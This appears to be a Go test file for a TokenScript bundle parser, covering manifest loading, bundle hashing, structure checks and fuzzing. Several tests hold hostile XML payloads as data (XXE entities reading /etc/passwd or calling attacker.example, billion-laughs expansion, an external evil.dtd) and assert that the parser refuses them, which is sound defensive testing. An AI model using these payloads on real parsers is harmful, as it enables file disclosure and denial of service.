package tokenscript

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ethereum/go-ethereum/common"

	"github.com/smartlayer/smartlayer/attest"
)

func TestFlightTicketBundle(t *testing.T) {
	b, err := LoadBundle("../examples/flight-ticket")
	if err != nil {
		t.Fatal(err)
	}
	m, err := b.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	if m.Name != "FlightTicket" || m.Namespace != "http://tokenscript.org/2024/01/tokenscript" {
		t.Fatalf("name/ns: %q %q", m.Name, m.Namespace)
	}
	s := m.Service
	if s == nil || s.Replicas != 3 || len(s.ModuleSource) == 0 || s.InstanceOrigin != "FlightTicket" {
		t.Fatalf("service: %+v", s)
	}
	if !s.GrantRequired("status") || s.GrantRequired("other") {
		t.Fatalf("status must require a grant: %+v", s.Queries)
	}
	def, ok := m.Attestation("FlightTicket")
	if !ok || len(def.Issuers) != 1 || def.Issuers[0] != common.HexToAddress("0x000000000000000000000000000000000000dEaD") {
		t.Fatalf("attestation: %+v", def)
	}
	// The declared schema UID is the UID of the declared schema string.
	if want := attest.SchemaUIDOf(s.Schema, common.Address{}, true); def.SchemaUID != want {
		t.Fatalf("schemaUID %s, schema string gives %s", def.SchemaUID, want)
	}
	if b.Hash() != b.Hash() || b.Hash() == (BundleHash{}) {
		t.Fatal("hash unstable")
	}
	b.Files["service.js"] = append(b.Files["service.js"], ' ')
	h2 := b.Hash()
	b.Files["service.js"] = b.Files["service.js"][:len(b.Files["service.js"])-1]
	if h2 == b.Hash() {
		t.Fatal("hash ignores content")
	}
}

func TestUnsafeXML(t *testing.T) {
	cases := map[string]error{
		`<!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><t>&xxe;</t>`: ErrUnsafe,
		`<!DOCTYPE t [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><t>&b;</t>`:      ErrUnsafe,
		`<t>&undefined;</t>`: ErrUnsafe,
		`<t><u></t>`:         ErrMalformed,
		``:                   ErrMalformed,
		strings.Repeat("<a>", MaxDepth+1) + strings.Repeat("</a>", MaxDepth+1): ErrUnsafe,
	}
	for in, want := range cases {
		if _, err := ParseXML([]byte(in)); !errors.Is(err, want) {
			t.Errorf("%.40q: got %v, want %v", in, err, want)
		}
	}
	_, err := ParseXML([]byte(`<!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><t>&xxe;</t>`))
	if err == nil || !strings.Contains(err.Error(), `"xxe"`) {
		t.Fatalf("error does not name the entity: %v", err)
	}
}

func TestBundleChecks(t *testing.T) {
	for name, files := range map[string]map[string][]byte{
		"empty":     {},
		"no-script": {"a.js": []byte("x")},
		"two":       {"a.xml": nil, "b.tsml": nil},
		"escape":    {"../a.xml": nil},
	} {
		if err := (&Bundle{Files: files}).Check(); !errors.Is(err, ErrMalformed) {
			t.Errorf("%s: got %v", name, err)
		}
	}
}

// TestLenientDocuments: source-form files keep their entities unresolved;
// the attacks are refused, naming the entity.
func TestLenientDocuments(t *testing.T) {
	ok := `<!DOCTYPE token [<!ENTITY style SYSTEM "shared.css"><!ENTITY greeting "hello">]>` +
		`<ts:token xmlns:ts="http://tokenscript.org/2020/06/tokenscript" name="x"><ts:label><ts:string xml:lang="en">&greeting;</ts:string></ts:label><s>&style;</s></ts:token>`
	ts, err := ParseTokenScript([]byte(ok))
	if err != nil {
		t.Fatal(err)
	}
	if len(ts.Entities) != 2 || ts.Entities[0].Name != "style" || ts.Label["en"] != "&greeting;" {
		t.Fatalf("entities %+v label %v", ts.Entities, ts.Label)
	}
	if _, err := ParseManifest([]byte(ok)); !errors.Is(err, ErrUnsafe) || !strings.Contains(err.Error(), `"style"`) {
		t.Fatalf("a node must refuse entities: %v", err)
	}
	for name, in := range map[string]string{
		"xxe-file":   `<!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><t>&xxe;</t>`,
		"xxe-http":   `<!DOCTYPE t [<!ENTITY xxe SYSTEM "http://attacker.example/x">]><t>&xxe;</t>`,
		"xxe-abs":    `<!DOCTYPE t [<!ENTITY xxe SYSTEM "/etc/passwd">]><t>&xxe;</t>`,
		"laughs":     `<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><t>&c;</t>`,
		"param":      `<!DOCTYPE t [<!ENTITY % p SYSTEM "evil.dtd"> %p;]><t/>`,
		"undeclared": `<t>&nope;</t>`,
	} {
		_, err := ParseDocument([]byte(in))
		if !errors.Is(err, ErrUnsafe) {
			t.Errorf("%s: got %v", name, err)
			continue
		}
		if name != "undeclared" && !strings.Contains(err.Error(), `"`) {
			t.Errorf("%s: error does not name the entity: %v", name, err)
		}
	}
}

func FuzzParseTokenScript(f *testing.F) {
	files, _ := filepath.Glob("testdata/examples/*")
	for _, fn := range files {
		b, _ := os.ReadFile(fn)
		if len(b) < 64<<10 {
			f.Add(b)
		}
	}
	f.Add([]byte(`<!DOCTYPE t [<!ENTITY a "x">]><t>&a;</t>`))
	f.Fuzz(func(t *testing.T, data []byte) {
		ts, err := ParseTokenScript(data)
		if err != nil {
			return
		}
		_ = ts.Summarise()
		_ = VerifySignature(data)
	})
}
